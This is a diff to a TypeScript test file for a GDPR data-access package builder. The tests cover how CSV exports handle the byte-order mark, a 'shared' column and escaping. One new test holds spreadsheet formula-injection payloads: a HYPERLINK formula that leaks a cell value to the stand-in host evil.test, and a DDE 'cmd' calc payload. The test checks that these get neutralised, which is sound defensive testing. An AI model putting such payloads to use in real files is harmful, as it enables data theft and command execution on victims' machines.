@@ -2,7 +2,8 @@ import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { buildCharter } from '../../test/support/charter.js';
 import type { AccessRecord } from '../stores/connector.js';
-import { buildPackage, toCsv } from './package.js';
+import { parseCsv } from '../platform/csv.js';
+import { buildPackage } from './package.js';
 import { contrast, themeCss } from './pages.js';
 import { rightsTexts } from './texts.js';
 
@@ -22,8 +23,29 @@ const records: AccessRecord[] = [
 ];
 
 describe('the access package', () => {
-  it('writes RFC 4180 CSV', () => {
-    expect(toCsv(['a', 'b'], [['x,y', 'say "hi"'], [null, 3]])).toBe('a,b\r\n"x,y","say ""hi"""\r\n,3\r\n');
+  it('writes its CSV files with the one guarded writer: a store value never runs as a spreadsheet formula', () => {
+    const hostile: AccessRecord[] = [
+      {
+        store: 'crm',
+        table: 'notes',
+        key: '9',
+        restricted: false,
+        columns: [
+          { name: 'link', category: 'communication.message', value: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
+          { name: 'cmd', category: 'communication.message', value: "+cmd|' /C calc'!A0" },
+          { name: 'at', category: 'communication.message', value: '@SUM(1+1)' },
+          { name: 'amount', category: 'communication.message', value: -12.5 },
+        ],
+      },
+    ];
+    const built = buildPackage({ charter: buildCharter(), language: 'en', reference: 'R-AAAA-BBBB', generatedAt: new Date('2025-03-01T10:00:00Z'), records: hostile, consents: { current: [], events: [] } });
+    // Buffer keeps the byte-order mark (TextDecoder, behind strFromU8, drops it).
+    const csv = Buffer.from(unzipSync(built.bytes)['tables/crm.notes.csv']!).toString('utf8');
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(parseCsv(csv)).toEqual([
+      ['_key', '_restricted', '_shared', 'link', 'cmd', 'at', 'amount'],
+      ['9', 'false', 'false', `'=HYPERLINK("http://evil.test/?"&A1,"Click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", '-12.5'],
+    ]);
   });
 
   it('holds a report in the requester’s language, JSON and one CSV per table, and never a secret', () => {
@@ -40,8 +62,21 @@ describe('the access package', () => {
     expect(report).toContain('Mailer SA');
     expect(report).toContain('An &quot;the first&quot;, Peeters');
     expect(report).toContain('beperkt (art. 18)');
-    expect(strFromU8(files['tables/crm.customers.csv']!)).toBe('_key,_restricted,email,name\r\n1,false,an@example.be,"An ""the first"", Peeters"\r\n');
+    expect(Buffer.from(files['tables/crm.customers.csv']!).toString('utf8')).toBe('\uFEFF_key,_restricted,_shared,email,name\r\n1,false,false,an@example.be,"An ""the first"", Peeters"\r\n');
     expect(built.counts).toEqual({ 'crm.customers': 1, 'crm.orders': 1 });
+    // A record shared with another person says so in the report, the CSV and the JSON.
+    const shared = buildPackage({
+      charter: buildCharter(),
+      language: 'en',
+      reference: 'R-AAAA-BBBB',
+      generatedAt: new Date('2025-03-01T10:00:00Z'),
+      records: [{ store: 'crm', table: 'messages', key: '5', restricted: false, shared: true, columns: [{ name: 'body', category: 'communication.message', value: 'hello' }] }],
+      consents: { current: [], events: [] },
+    });
+    const sharedFiles = unzipSync(shared.bytes);
+    expect(strFromU8(sharedFiles['report.html']!)).toContain('shared with another person: their data in it is left out (Art. 15(4))');
+    expect(Buffer.from(sharedFiles['tables/crm.messages.csv']!).toString('utf8')).toBe('\uFEFF_key,_restricted,_shared,body\r\n5,false,true,hello\r\n');
+    expect(strFromU8(sharedFiles['data.json']!)).toContain('"shared": true');
     // Same content, same bytes.
     const again = buildPackage({ charter: buildCharter(), language: 'nl', reference: 'R-AAAA-BBBB', generatedAt: new Date('2025-03-01T10:00:00Z'), records, consents: { current: [], events: [] } });
     expect(again.sha256).toBe(built.sha256);
